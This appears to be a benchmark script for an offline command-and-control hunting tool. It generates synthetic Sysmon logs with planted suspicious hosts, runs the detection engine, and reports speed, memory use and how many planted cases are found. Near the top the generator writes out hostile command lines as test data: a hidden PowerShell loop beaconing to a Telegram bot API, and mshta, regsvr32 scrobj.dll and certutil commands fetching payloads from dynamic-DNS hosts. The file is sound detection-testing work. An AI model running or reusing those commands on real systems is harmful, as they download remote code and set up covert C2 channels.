    elif kind == "web_service":  # a script host using a public API as its channel
        image, command, name = (
            (_S32 + "\\WindowsPowerShell\\v1.0\\powershell.exe",
             "powershell.exe -w hidden -c \"while($true){irm https://api.telegram.org/bot%d:AAE/getUpdates; sleep 300}\""
             % rng.randrange(10 ** 9), "api.telegram.org"),
            (_S32 + "\\wscript.exe", '"%s\\wscript.exe" "C:\\Users\\%s\\AppData\\Roaming\\svc.js"' % (_S32, profile),
             "pastebin.com"),
            (_S32 + "\\rundll32.exe", '"%s\\rundll32.exe" C:\\Users\\%s\\AppData\\Roaming\\d3d.dll,Run' % (_S32, profile),
             "discord.com"),
        )[variant % 3]
        p = proc(image, command)
        every(p, 300, 0.2, 30, lambda t, i: fleet.query(host, t, p, name, _external(rng, 5000)))
    elif kind == "lolbin_dns":  # a LOLBin resolving a dynamic-DNS or machine-made name
        image, name = ((_S32 + "\\mshta.exe", "update-%s.duckdns.org" % ("%06x" % rng.getrandbits(24))),
                       (_S32 + "\\regsvr32.exe", "%s.top" % "".join(rng.choice("bcdfghjklmnpqrstvwxz")
                                                                      for _ in range(14))),
                       (_S32 + "\\certutil.exe", "files%d.ddns.net" % rng.randrange(100)))[variant % 3]
        p = proc(image, '"%s" %s' % (image, ("http://%s/a.hta", "/s /n /u /i:http://%s/x.sct scrobj.dll",
                                                 "-urlcache -split -f http://%s/p.bin")[variant % 3] % name))
        every(p, 600, 0.3, 6, lambda t, i: fleet.query(host, t, p, name, c2))
    return out


def generate_sysmon(folder, n_events, hosts=300, per_kind=3, seed=17, files=24):
    """Write ``n_events`` Sysmon records (XmlWinEventLog XML, one hourly file of a day each) of
    ``hosts`` workstations with ``per_kind`` planted hosts for each kind of SYSMON_SEARCHES;
    returns (paths, planted: [(kind, host name)])."""
    rng = random.Random(seed)
    fleet = _SysmonFleet(rng, hosts)
    planted, records = [], []
    victims = rng.sample(range(hosts), min(hosts, per_kind * len(SYSMON_SEARCHES)))
    for k, kind in enumerate(SYSMON_SEARCHES):
        for variant in range(per_kind):
            index = k * per_kind + variant
            if index >= len(victims):
                break
            host = fleet.hosts[victims[index]]
            records.extend(_plant(fleet, kind, host, variant))
            planted.append((kind, host["name"]))
    n_background = max(0, n_events - len(records))
    for i in range(n_background):
        ts = START + DAY * i / max(1, n_background)
        records.append((ts, _sysmon_background(fleet, ts, i)))
    records.sort(key=lambda r: r[0])
    paths, hour = [], DAY / files
    handles = {}
    try:
        for ts, line in records:
            part = min(files - 1, int((ts - START) // hour))
            if part not in handles:
                path = os.path.join(folder, "sysmon-%02d.xml" % part)
                handles[part] = open(path, "w")
                paths.append(path)
            handles[part].write(line)
    finally:
        for handle in handles.values():
            handle.close()
    return sorted(paths), planted


def json_parse_seconds(paths):
    """Seconds Python's own parser takes merely to parse the files, and the records: ``json``
    for JSON lines, ``xml.etree.ElementTree`` for XML (one ``<Event>`` a line)."""
    from xml.etree import ElementTree
    started = time.perf_counter()
    n = 0
    for path in paths:
        parse = ElementTree.fromstring if path.endswith(".xml") else json.loads
        with open(path, "rb") as handle:
            for line in handle:
                parse(line)
                n += 1
    return time.perf_counter() - started, n


def summarise(notables, planted):
    by_search = collections.Counter(n.get("search") for n in notables)
    found = set()
    for n in notables:
        if n.get("search") != BEACON_SEARCH:
            continue
        fields = n.get("fields", {})
        found.add((fields.get("src"), fields.get("dest")))
    beacons = sum(1 for src, dst, _, _ in planted if (src, dst) in found)
    return by_search, beacons


def summarise_sysmon(notables, planted):
    """(notables by search, planted found, notables on hosts nothing was planted on)."""
    raised = {(n.get("search"), n.get("host")) for n in notables}
    found = sum(1 for kind, host in planted if (SYSMON_SEARCHES[kind], host) in raised)
    victims = {host for _, host in planted}
    others = sum(1 for n in notables if n.get("host") not in victims)
    return collections.Counter(n.get("search") for n in notables), found, others


def profile(n, folder, top, data="conn"):
    import cProfile
    import pstats

    from c2hunt_offline.engine import Runner
    paths, _ = (generate_sysmon if data == "sysmon" else generate)(folder, n)
    runner = Runner()
    prof = cProfile.Profile()
    prof.enable()
    events, _ = runner.read_files(paths)
    notables, errors = runner.hunt(events)
    prof.disable()
    print("profiled %d %s records: %d notables, errors %s" % (n, data, len(notables), errors))
    pstats.Stats(prof).sort_stats("tottime").print_stats(top)


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--sizes", default="200000,1000000", help="conn records per run, comma separated")
    parser.add_argument("--hosts", type=int, default=2000)
    parser.add_argument("--beacons", type=int, default=20)
    parser.add_argument("--dns-share", type=float, default=0.2)
    parser.add_argument("--sysmon", type=float, default=SYSMON_SHARE,
                        help="Sysmon events per size, as a share of the size (0: no Sysmon runs)")
    parser.add_argument("--sysmon-hosts", type=int, default=300)
    parser.add_argument("--no-conn", action="store_true", help="only the Sysmon runs")
    parser.add_argument("--row-size", type=int, default=0,
                        help="also run the row engine on a file of this many conn records")
    parser.add_argument("--baseline-root",
                        help="also run another checkout's runner (a folder with offline/, bin/, default/ "
                             "and lookups/, e.g. from `git archive <commit> offline bin default lookups`) "
                             "on the --row-size file, in the same run")
    parser.add_argument("--no-row", action="store_true",
                        help="with --row-size, skip the row engine (e.g. to compare memory with --baseline-root)")
    parser.add_argument("--keep", help="write the generated files here (default: a temporary folder)")
    parser.add_argument("--profile", type=int, default=0, help="cProfile a hunt of this many records")
    parser.add_argument("--profile-data", choices=("conn", "sysmon"), default="conn",
                        help="what --profile generates")
    parser.add_argument("--stream", choices=("both", "on", "off"), default="both",
                        help="hunt streamed (on), whole (off: C2HUNT_STREAM=0) or both, per size")
    parser.add_argument("--workers", default="",
                        help="the whole-table hunt once per C2HUNT_WORKERS value, comma separated (e.g. 1,2: "
                             "in-process and across two processes; default: the runner's own default)")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="c2hunt-scale-") as tmp:
        base = args.keep or tmp
        if args.profile:
            os.makedirs(base, exist_ok=True)
            return profile(args.profile, base, 40, args.profile_data)
        _print_plans()
        modes = {"both": ["stream", "whole"], "on": ["stream"], "off": ["whole"]}[args.stream]
        workers = [w.strip() for w in args.workers.split(",") if w.strip()]
        if workers and "whole" in modes:  # "whole:N": the whole-table hunt with C2HUNT_WORKERS=N
            modes = [m for m in modes if m != "whole"] + ["whole:%s" % w for w in workers]
        sizes = [int(s) for s in args.sizes.split(",") if s.strip()]
        print("load average at start: %.2f %.2f %.2f" % os.getloadavg())
        if not args.no_conn:
            _conn_runs(args, base, sizes, modes)
        if args.sysmon > 0:
            _sysmon_runs(args, base, sizes, modes)
    return 0


def _conn_runs(args, base, sizes, modes):
    runs = [(size, mode) for size in sizes for mode in modes]
    if args.row_size:
        runs = ([] if args.no_row else [(args.row_size, "row")]) + [(args.row_size, None)] + runs
        if args.baseline_root:
            runs.insert(0, (args.row_size, "baseline"))
    print("| conn records | total records | engine | hunt s | hunt CPU s | records/s | records/CPU s "
          "| peak RSS MiB | json parse s | hunt / json | notables | planted beacons found |")
    print("|---:|---:|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|")
    generated, outputs = {}, {}
    for size, engine in runs:
        folder = os.path.join(base, "n%d" % size)
        if size not in generated:
            os.makedirs(folder, exist_ok=True)
            generated[size] = generate(folder, size, args.hosts, args.beacons, args.dns_share)
        paths, planted = generated[size]
        parse_s, total = json_parse_seconds(paths)
        rss = _child_peak(paths, engine, args.baseline_root)
        elapsed, notables = rss["elapsed"], rss["notables"]
        by_search, beacons = summarise(notables, planted)
        print("| %d | %d | %s | %.1f | %.1f | %.0f | %.0f | %.0f | %.1f | %.1f | %d | %d/%d |"
              % (size, total, engine or "default", elapsed, rss["cpu"], total / elapsed,
                 total / max(rss["cpu"], 1e-9), rss["peak_mib"], parse_s, elapsed / parse_s,
                 len(notables), beacons, len(planted)))
        for search, count in sorted(by_search.items()):
            print("|  |  |  |  |  |  |  |  |  |  | %d | %s |" % (count, search))
        _same_output(outputs, size, engine, rss["text"], 12)
        sys.stdout.flush()


def _sysmon_runs(args, base, sizes, modes):
    """Sysmon alone, ``--sysmon`` times each size, beside the conn runs."""
    print("| Sysmon events | engine | hunt s | hunt CPU s | records/s | records/CPU s | peak RSS MiB "
          "| XML parse s | hunt / XML | notables | planted found | notables elsewhere |")
    print("|---:|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|")
    generated, outputs = {}, {}
    for size, engine in [(int(s * args.sysmon), mode) for s in sizes for mode in modes]:
        folder = os.path.join(base, "sysmon%d" % size)
        if size not in generated:
            os.makedirs(folder, exist_ok=True)
            generated[size] = generate_sysmon(folder, size, args.sysmon_hosts)
        paths, planted = generated[size]
        parse_s, total = json_parse_seconds(paths)
        rss = _child_peak(paths, engine)
        elapsed, notables = rss["elapsed"], rss["notables"]
        by_search, found, elsewhere = summarise_sysmon(notables, planted)
        print("| %d | %s | %.1f | %.1f | %.0f | %.0f | %.0f | %.1f | %.1f | %d | %d/%d | %d |"
              % (total, engine, elapsed, rss["cpu"], total / elapsed, total / max(rss["cpu"], 1e-9),
                 rss["peak_mib"], parse_s, elapsed / parse_s, len(notables), found, len(planted), elsewhere))
        for search, count in sorted(by_search.items()):
            print("|  |  |  |  |  |  |  |  |  | %d | %s |  |" % (count, search))
        _same_output(outputs, size, engine, rss["text"], 11)
        sys.stdout.flush()


def _same_output(outputs, size, engine, text, columns):
    """From a size's second mode on (streamed, whole, whole with N workers): is its output the
    first mode's?"""
    if engine != "stream" and not str(engine).startswith("whole"):
        return
    seen = outputs.setdefault(size, {})
    if seen:
        first, first_text = next(iter(seen.items()))
        print("|" + "  |" * columns + " %s output %s the %s output |"
              % (_mode_name(engine), "identical to" if text == first_text else "DIFFERS from", _mode_name(first)))
    seen[engine] = text


def _mode_name(engine):
    if engine == "stream":
        return "streamed"
    return "whole-table" + (" (C2HUNT_WORKERS=%s)" % engine.split(":", 1)[1] if ":" in engine else "")


def _child_peak(paths, engine, baseline_root=None):
    """Run ``hunt`` and measure the child's own peak RSS (wait4 gives it per child).

    ``engine``: None (this checkout), ``"row"`` (this checkout, C2HUNT_ENGINE=row) or
    ``"baseline"`` (the runner of ``baseline_root``, with that checkout's own app content)."""
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(repo_paths.pythonpath()), TZ="UTC")
    env.pop("C2HUNT_ENGINE", None)
    env["C2HUNT_STREAM"] = "1"  # streamed at every size (unset, hunt streams 256 MiB or more)
    if engine and engine.startswith("whole"):
        env["C2HUNT_STREAM"] = "0"
        if ":" in engine:
            env["C2HUNT_WORKERS"] = engine.split(":", 1)[1]
    elif engine == "stream":
        pass
    elif engine == "baseline":
        env["PYTHONPATH"] = os.path.join(os.path.abspath(baseline_root), "offline")
    elif engine:
        env["C2HUNT_ENGINE"] = engine
    out_file = tempfile.TemporaryFile()
    err_file = tempfile.TemporaryFile()
    started = time.perf_counter()
    child = subprocess.Popen([sys.executable, "-m", "c2hunt_offline", "hunt", "--no-progress",
                              "--format", "json"] + list(paths), stdout=out_file, stderr=err_file,
                             env=env, cwd=str(ROOT))
    _, status, usage = os.wait4(child.pid, 0)
    elapsed = time.perf_counter() - started
    child.returncode = os.waitstatus_to_exitcode(status)
    out_file.seek(0)
    err_file.seek(0)
    if child.returncode not in (0, 1, 3):
        raise SystemExit("hunt failed (%s): %s" % (child.returncode, err_file.read().decode()[-2000:]))
    text = out_file.read()
    notables = [json.loads(line) for line in text.splitlines() if line.strip()]
    notables = [n for n in notables if "search" in n]  # one JSON object per notable
    return {"elapsed": elapsed, "cpu": usage.ru_utime + usage.ru_stime,
            "peak_mib": usage.ru_maxrss / 1024.0, "notables": notables, "text": text}


def _print_plans():
    """How each correlation search runs in a streamed hunt."""
    from c2hunt_offline.columnar import stream
    from c2hunt_offline.engine import Runner
    runner = Runner(str(ROOT))
    for saved in runner.saved_searches():
        if saved.kind == "correlation":
            print("plan: " + stream.plan_search(runner, saved).describe())


if __name__ == "__main__":
    sys.exit(main())
